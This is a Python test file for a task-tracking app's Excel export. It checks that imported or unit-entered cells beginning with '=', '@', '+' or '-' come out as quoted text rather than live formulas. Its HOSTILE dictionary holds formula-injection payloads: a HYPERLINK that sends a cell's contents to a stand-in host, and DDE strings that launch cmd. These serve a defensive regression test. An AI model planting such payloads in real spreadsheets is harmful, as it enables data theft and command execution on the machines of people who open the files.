"""Excel exports write text as text (issue 11, finding 6): a unit's progress "=HYPERLINK(…)" or
an imported cell starting with "=" must never become a live formula in the tracker's export."""

import zipfile
from datetime import date

from openpyxl import Workbook, load_workbook

import db
from db import accounts
from tracking import imports, reports
from tracking.excel import read_xlsx

HOSTILE = {
    "content": '=HYPERLINK("http://trang-la.example/?d="&A1,"Bấm để xem")',
    "lead": "@SUM(1+1)*cmd|' /C calc'!A0",
    "result": "=cmd|' /C calc'!A0",
    "documents": "+1+cmd|' /C calc'!A0",
    "sector": "-2+3",
}


def _import_list(path) -> None:
    """A list whose cells hold formula-like text (what an office's own file may contain)."""
    wb = Workbook()
    ws = wb.active
    ws.append(["Số thông báo", "Ngày ban hành", "Nội dung nhiệm vụ", "Đơn vị chủ trì", "Lĩnh vực", "Hạn xử lý"])
    ws.append(
        ["05-TB/TU", date(2026, 8, 25), HOSTILE["content"], HOSTILE["lead"], HOSTILE["sector"], date(2026, 9, 30)]
    )
    for cell in ws[2]:
        if isinstance(cell.value, str) and cell.value[:1] in "=@-":
            cell.data_type = "s"  # text in the file, as Excel keeps a quote-prefixed cell
    wb.save(path)


def test_no_export_cell_is_a_formula(tmp_path):
    engine = db.connect(f"sqlite:///{tmp_path / 'k.sqlite'}")
    source = tmp_path / "danh-sach.xlsx"
    _import_list(source)
    notices = read_xlsx(source)
    assert notices[0].tasks[0].content == HOSTILE["content"]  # kept exactly as the office wrote it
    with db.session(engine) as s:
        office = accounts.ensure_unit(s, "VP")
        imports.confirm(s, imports.preview(s, notices, office.id).id)
        task = s.query(db.TrackedTask).one()
        task.result, task.documents = HOSTILE["result"], HOSTILE["documents"]  # a unit's report
        s.flush()
        rows = reports.task_rows(s, date(2026, 9, 1))
    out = reports.export_xlsx(rows, tmp_path / "bao-cao.xlsx", date(2026, 9, 1), by="unit")
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets), "a cell was written as a formula"
    wb = load_workbook(out)
    texts = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in HOSTILE.values():
        assert value in texts, value  # shown exactly as typed
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
    engine.dispose()
